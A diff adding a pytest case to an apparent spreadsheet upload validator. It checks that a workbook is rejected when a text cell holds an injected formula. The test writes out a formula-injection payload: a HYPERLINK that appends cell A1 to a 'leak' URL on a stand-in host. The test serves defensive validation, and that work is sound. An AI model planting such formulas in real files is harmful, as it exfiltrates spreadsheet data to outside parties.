@@ -170,3 +170,16 @@ def test_19_mb_of_text_to_the_audit_api_is_413_at_once(app: FastAPI) -> None:
     page = client.post("/audit", files={"file": ("report.txt", text, "text/plain")},
                        data={"csrf_token": page_csrf(client, "/audit")})
     assert page.status_code == 413 and "审核上限" in page.text
+
+
+def test_item_3_upload_side_a_formula_in_a_text_cell_never_reaches_the_data(workbook: bytes) -> None:
+    """Issue 13, item 3 is the report writer's (values only, on the branch that owns write/); on
+    the way in, a formula typed into a text cell is never stored as the formula's text."""
+    book = load_workbook(io.BytesIO(workbook))
+    cell = next(c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == "哈密市医疗保障局")
+    cell.value = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我查看")'
+    buffer = io.BytesIO()
+    book.save(buffer)
+    result = read_workbook_bytes(buffer.getvalue(), "填报.xlsx")
+    assert result.dataset is None
+    assert any(p.code == "JX-WB-006" and "公式" in p.message for p in result.problems)
